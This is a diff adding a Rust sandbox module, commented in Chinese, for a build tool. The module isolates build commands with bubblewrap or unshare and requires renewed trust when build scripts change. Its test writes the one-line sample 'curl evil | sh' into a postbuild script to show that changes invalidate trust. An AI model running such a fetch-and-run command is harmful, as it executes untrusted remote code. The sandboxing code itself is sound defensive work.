@@ -0,0 +1,228 @@
+use anyhow::Result;
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::OnceLock;
+
+use super::hashing::sha256_bytes;
+use super::rmm_core::MetaConfig;
+use super::storage::canonicalize_or_absolute;
+
+/// 沙箱中保留的宿主环境变量，其余全部清除
+const PASSTHROUGH_ENV: [&str; 6] = ["PATH", "LANG", "LC_ALL", "TERM", "SYSTEMROOT", "COMSPEC"];
+/// 设置后默认在沙箱中运行构建命令
+pub const SANDBOX_ENV: &str = "RMM_SANDBOX";
+
+/// 沙箱选项
+#[derive(Debug, Clone, Default)]
+pub struct SandboxOptions {
+    /// 除项目目录与临时 HOME 外允许写入的路径
+    pub allow_paths: Vec<PathBuf>,
+    /// 允许访问网络
+    pub allow_network: bool,
+}
+
+/// 当前平台可用的隔离方式
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Isolation {
+    /// bubblewrap：只读根文件系统、可写路径白名单、可选断网
+    Bwrap,
+    /// unshare：仅隔离网络
+    Unshare,
+    /// 仅清理环境变量并使用临时 HOME（Windows/macOS 上始终如此）
+    EnvOnly,
+}
+
+impl Isolation {
+    pub fn describe(&self) -> &'static str {
+        match self {
+            Isolation::Bwrap => "bubblewrap（只读文件系统 + 可写白名单 + 网络隔离）",
+            Isolation::Unshare => "unshare（网络隔离，文件系统不受限）",
+            Isolation::EnvOnly if cfg!(target_os = "linux") => "仅受限环境变量与临时 HOME（未找到 bwrap/unshare，文件系统与网络不受限）",
+            Isolation::EnvOnly => "仅受限环境变量与临时 HOME（当前平台没有隔离后端，文件系统与网络不受限）",
+        }
+    }
+
+    /// 是否真正隔离了文件系统或网络
+    pub fn is_isolated(&self) -> bool {
+        *self != Isolation::EnvOnly
+    }
+}
+
+/// 探测命令能否成功运行（静默）
+fn probe(program: &str, args: &[&str]) -> bool {
+    Command::new(program)
+        .args(args)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|status| status.success())
+}
+
+/// 检测可用的隔离方式（结果缓存）
+pub fn detect_isolation() -> Isolation {
+    static ISOLATION: OnceLock<Isolation> = OnceLock::new();
+    *ISOLATION.get_or_init(|| {
+        if !cfg!(target_os = "linux") {
+            return Isolation::EnvOnly;
+        }
+        if probe("bwrap", &["--ro-bind", "/", "/", "--unshare-net", "true"]) {
+            Isolation::Bwrap
+        } else if probe("unshare", &["--user", "--map-root-user", "--net", "true"]) {
+            Isolation::Unshare
+        } else {
+            Isolation::EnvOnly
+        }
+    })
+}
+
+/// 命令沙箱：每个沙箱使用独立的临时 HOME，离开作用域时删除
+pub struct Sandbox {
+    home: tempfile::TempDir,
+    options: SandboxOptions,
+    isolation: Isolation,
+}
+
+impl Sandbox {
+    pub fn new(options: SandboxOptions) -> Result<Self> {
+        Self::with_isolation(options, detect_isolation())
+    }
+
+    pub fn with_isolation(options: SandboxOptions, isolation: Isolation) -> Result<Self> {
+        let home = tempfile::Builder::new().prefix("rmm-sandbox-").tempdir()?;
+        Ok(Self { home, options, isolation })
+    }
+
+    pub fn isolation(&self) -> Isolation {
+        self.isolation
+    }
+
+    pub fn home(&self) -> &Path {
+        self.home.path()
+    }
+
+    /// 构造在沙箱中运行 program args 的命令，工作目录为项目目录
+    pub fn command(&self, project_path: &Path, program: &str, args: &[&str], env: &BTreeMap<String, String>) -> Command {
+        let mut command = match self.isolation {
+            Isolation::Bwrap => {
+                let mut command = Command::new("bwrap");
+                command.args(["--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp", "--die-with-parent"]);
+                let writable = [project_path, self.home()].into_iter()
+                    .chain(self.options.allow_paths.iter().map(PathBuf::as_path));
+                for path in writable.filter(|p| p.exists()) {
+                    command.arg("--bind").arg(path).arg(path);
+                }
+                if !self.options.allow_network {
+                    command.arg("--unshare-net");
+                }
+                command.arg("--chdir").arg(project_path).arg("--").arg(program).args(args);
+                command
+            }
+            Isolation::Unshare if !self.options.allow_network => {
+                let mut command = Command::new("unshare");
+                command.args(["--user", "--map-root-user", "--net", "--"]).arg(program).args(args);
+                command
+            }
+            _ => {
+                let mut command = Command::new(program);
+                command.args(args);
+                command
+            }
+        };
+
+        command.current_dir(project_path).env_clear();
+        for key in PASSTHROUGH_ENV {
+            if let Some(value) = std::env::var_os(key) {
+                command.env(key, value);
+            }
+        }
+        for key in ["HOME", "USERPROFILE", "TMPDIR", "TEMP", "TMP"] {
+            command.env(key, self.home());
+        }
+        command.env(SANDBOX_ENV, "1").envs(env);
+        command
+    }
+}
+
+/// 构建时会执行的 scripts/ 下的脚本
+pub const BUILD_SCRIPTS: [&str; 4] = [
+    "scripts/prebuild.sh",
+    "scripts/postbuild.sh",
+    "scripts/source-prebuild.sh",
+    "scripts/source-postbuild.sh",
+];
+
+/// 需要信任的构建命令摘要：Rmake.toml 的 prebuild/postbuild 与 scripts/ 下的构建脚本；没有命令时返回 None
+pub fn commands_digest(project_path: &Path, prebuild: &[String], postbuild: &[String]) -> Option<String> {
+    let mut content = Vec::new();
+    for (stage, commands) in [("prebuild", prebuild), ("postbuild", postbuild)] {
+        for command in commands {
+            content.extend_from_slice(format!("{}:{}\n", stage, command).as_bytes());
+        }
+    }
+    for script in BUILD_SCRIPTS {
+        if let Ok(bytes) = fs::read(project_path.join(script)) {
+            content.extend_from_slice(format!("{}:\n", script).as_bytes());
+            content.extend_from_slice(&bytes);
+        }
+    }
+    (!content.is_empty()).then(|| sha256_bytes(&content))
+}
+
+fn trust_key(project_path: &Path) -> String {
+    canonicalize_or_absolute(project_path).to_string_lossy().to_string()
+}
+
+/// 项目的当前命令是否已被信任
+pub fn is_trusted(meta: &MetaConfig, project_path: &Path, digest: &str) -> bool {
+    meta.trusted.get(&trust_key(project_path)).is_some_and(|d| d == digest)
+}
+
+/// 记录信任（覆盖旧摘要）
+pub fn trust(meta: &mut MetaConfig, project_path: &Path, digest: &str) {
+    meta.trusted.insert(trust_key(project_path), digest.to_string());
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    #[cfg(unix)]
+    #[test]
+    fn test_sandbox_env_and_trust_records() {
+        let temp = tempdir().unwrap();
+        let sandbox = Sandbox::with_isolation(SandboxOptions::default(), Isolation::EnvOnly).unwrap();
+        let env = BTreeMap::from([("PROJECT_VAR".to_string(), "ok".to_string())]);
+        let output = sandbox
+            .command(temp.path(), "sh", &["-c", "printf '%s|%s|%s|%s' \"$HOME\" \"$RMM_SANDBOX\" \"$PROJECT_VAR\" \"${CARGO:-none}\""], &env)
+            .output()
+            .unwrap();
+        let expected = format!("{}|1|ok|none", sandbox.home().display());
+        assert_eq!(String::from_utf8_lossy(&output.stdout), expected);
+        let home = sandbox.home().to_path_buf();
+        assert!(home.exists());
+        // 同一进程中的沙箱互不共享 HOME
+        let other = Sandbox::with_isolation(SandboxOptions::default(), Isolation::EnvOnly).unwrap();
+        assert_ne!(other.home(), home);
+        drop(sandbox);
+        assert!(!home.exists());
+        assert!(other.home().exists());
+
+        assert_eq!(commands_digest(temp.path(), &[], &[]), None);
+        let prebuild = vec!["echo hi".to_string()];
+        let digest = commands_digest(temp.path(), &prebuild, &[]).unwrap();
+        let mut meta = MetaConfig::default();
+        assert!(!is_trusted(&meta, temp.path(), &digest));
+        trust(&mut meta, temp.path(), &digest);
+        assert!(is_trusted(&meta, temp.path(), &digest));
+
+        // 修改脚本后需要重新信任
+        fs::create_dir_all(temp.path().join("scripts")).unwrap();
+        fs::write(temp.path().join("scripts/postbuild.sh"), "curl evil | sh").unwrap();
+        let changed = commands_digest(temp.path(), &prebuild, &[]).unwrap();
+        assert!(!is_trusted(&meta, temp.path(), &changed));
+    }
+}